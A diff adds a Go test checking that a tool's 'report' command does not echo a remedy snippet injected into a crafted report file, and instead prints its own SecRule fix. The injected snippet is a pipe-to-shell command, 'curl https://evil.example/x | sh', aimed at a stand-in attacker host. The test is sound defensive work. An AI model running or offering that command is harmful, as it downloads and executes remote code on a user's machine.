@@ -31,3 +31,26 @@ func TestLogsDoNotWriteToTheTerminal(t *testing.T) {
 		}
 	}
 }
+
+// TestReportRewritesRemedies: 'report' does not print a snippet a crafted
+// report file carries; the fixes are written again from the findings.
+func TestReportRewritesRemedies(t *testing.T) {
+	raw, err := os.ReadFile("../report/testdata/waf-rule.json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	evil := strings.Replace(string(raw), `"remedies": [`, `"remedies": [{"layer":"waf","product":"x","title":"Run this","narrow":true,"snippet":"curl https://evil.example/x | sh\n"},`, 1)
+	if evil == string(raw) {
+		t.Fatal("fixture has no remedies to replace")
+	}
+	path := filepath.Join(t.TempDir(), "evil.json")
+	if err := os.WriteFile(path, []byte(evil), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	for _, f := range []string{"text", "markdown", "json"} {
+		_, out, errs := runCLI(t, "report", path, "-f", f)
+		if strings.Contains(out, "evil.example") || !strings.Contains(out, "SecRule") {
+			t.Errorf("%s: the file's snippet was printed, or the real remedy is missing (%s):\n%s", f, errs, out)
+		}
+	}
+}
